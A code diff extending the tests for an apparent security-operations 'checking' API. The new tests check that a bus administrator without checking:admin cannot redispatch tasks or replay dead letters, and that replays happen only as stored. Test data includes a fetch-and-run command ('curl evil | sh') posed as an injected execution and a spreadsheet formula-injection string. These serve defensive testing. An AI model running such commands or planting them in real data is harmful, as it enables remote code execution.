@@ -11,6 +11,8 @@ describe('checking query API', () => {
   let db: Client;
   let readerToken: string;
   let busToken: string;
+  /** holds admin but not checking:admin: the bus admin */
+  let busAdminToken: string;
   const ids: Record<string, string> = {};
 
   beforeAll(async () => {
@@ -19,6 +21,7 @@ describe('checking query API', () => {
     await db.connect();
     readerToken = (await createClient(h.api, h.adminToken, { client_id: 'purple-reader', scopes: ['checking:read'] })).token;
     busToken = (await createClient(h.api, h.adminToken, { client_id: 'bus-only', subscription: 'soar.#' })).token;
+    busAdminToken = (await createClient(h.api, h.adminToken, { client_id: 'bus-admin', scopes: ['admin', 'checking:read'] })).token;
     await seed();
   });
 
@@ -131,8 +134,9 @@ describe('checking query API', () => {
     expect(lines[1]).toContain(`${ids['l1']},op-A,l1,host-1,paw-1,'=cmd|whoami,2024-01-15T10:01:00.000Z`);
   });
 
-  it('redispatches a failed task (admin only), and refuses a completed or unknown one', async () => {
+  it('redispatches a failed task (checking:admin only), and refuses a completed or unknown one', async () => {
     expect((await h.api.request('POST', `/checking/tasks/${ids['failedTask']}/redispatch`, { token: readerToken })).status).toBe(403);
+    expect((await h.api.request('POST', `/checking/tasks/${ids['failedTask']}/redispatch`, { token: busAdminToken })).status).toBe(403);
     const ok = await h.api.request('POST', `/checking/tasks/${ids['failedTask']}/redispatch`, { token: h.adminToken });
     expect(ok.status).toBe(202);
     expect(ok.body).toMatchObject({ previousStatus: 'failed', changed: true });
@@ -142,13 +146,17 @@ describe('checking query API', () => {
     expect((await h.api.request('POST', '/checking/tasks/00000000-0000-0000-0000-000000000000/redispatch', { token: h.adminToken })).status).toBe(404);
   });
 
-  it('lists dead letters and replays one once its body is fixed', async () => {
+  it('lists dead letters; replays an execution result only as stored, with checking:admin (issue 12 #9)', async () => {
     const broken = { ...seedExecutionResult(), operation_id: 'op-dead', agent_host: 42 };
-    const { rows } = await db.query(
-      `INSERT INTO dead_letter (queue, reason, message_id, body) VALUES ('caldera.checking.instructions', 'agent_host must be a string', 'm-1', $1) RETURNING id`,
-      [Buffer.from(JSON.stringify(broken))],
-    );
-    const id = rows[0].id as string;
+    const insert = async (body: unknown, reason: string, queue = 'caldera.checking.instructions') =>
+      (
+        await db.query(`INSERT INTO dead_letter (queue, reason, message_id, body) VALUES ($1, $2, 'm-1', $3) RETURNING id`, [
+          queue,
+          reason,
+          Buffer.from(JSON.stringify(body)),
+        ])
+      ).rows[0].id as string;
+    const id = await insert(broken, 'agent_host must be a string');
 
     const list = await get('/checking/dead-letters?queue=caldera.checking.instructions');
     expect(list.status).toBe(200);
@@ -158,15 +166,24 @@ describe('checking query API', () => {
     expect(still.status).toBe(422);
     expect(JSON.stringify(still.body)).toContain('agent_host');
 
-    const fixed = await h.api.request('POST', `/checking/dead-letters/${id}/replay`, {
-      token: h.adminToken,
-      json: { body: { ...broken, agent_host: 'fixed-host' } },
-    });
-    expect(fixed.status).toBe(200);
-    const execution = await get(`/checking/executions/${fixed.body.executionId}`);
-    expect(execution.body).toMatchObject({ operation_id: 'op-dead', agent_host: 'fixed-host' });
+    // the bus admin cannot inject an execution; nobody can edit one
+    const injected = { ...broken, agent_host: 'fixed-host', command: 'curl evil | sh' };
+    expect((await h.api.request('POST', `/checking/dead-letters/${id}/replay`, { token: busAdminToken, json: { body: injected } })).status).toBe(403);
+    const edited = await h.api.request('POST', `/checking/dead-letters/${id}/replay`, { token: h.adminToken, json: { body: injected } });
+    expect(edited.status).toBe(422);
+    expect(edited.body.message).toContain('replayed only as stored');
+    expect((await db.query(`SELECT 1 FROM execution WHERE agent_host = 'fixed-host'`)).rows).toEqual([]);
+
+    const sound = await insert({ ...seedExecutionResult(), operation_id: 'op-dead', agent_host: 'sound-host' }, 'database unavailable');
+    expect((await h.api.request('POST', `/checking/dead-letters/${sound}/replay`, { token: busAdminToken, json: {} })).status).toBe(403);
+    const replayedAsStored = await h.api.request('POST', `/checking/dead-letters/${sound}/replay`, { token: h.adminToken, json: {} });
+    expect(replayedAsStored.status).toBe(200);
+    const execution = await get(`/checking/executions/${replayedAsStored.body.executionId}`);
+    expect(execution.body).toMatchObject({ operation_id: 'op-dead', agent_host: 'sound-host' });
     expect(execution.body.tasks).toHaveLength(4);
     const replayed = await get('/checking/dead-letters?replayed=true');
-    expect(replayed.body.items.map((d: { id: string }) => d.id)).toEqual([id]);
+    expect(replayed.body.items.map((d: { id: string }) => d.id)).toEqual([sound]);
+    const { rows } = await db.query(`SELECT replayed_by, body_edited_by FROM dead_letter WHERE id = $1`, [sound]);
+    expect(rows[0]).toEqual({ replayed_by: 'admin', body_edited_by: null });
   });
 });
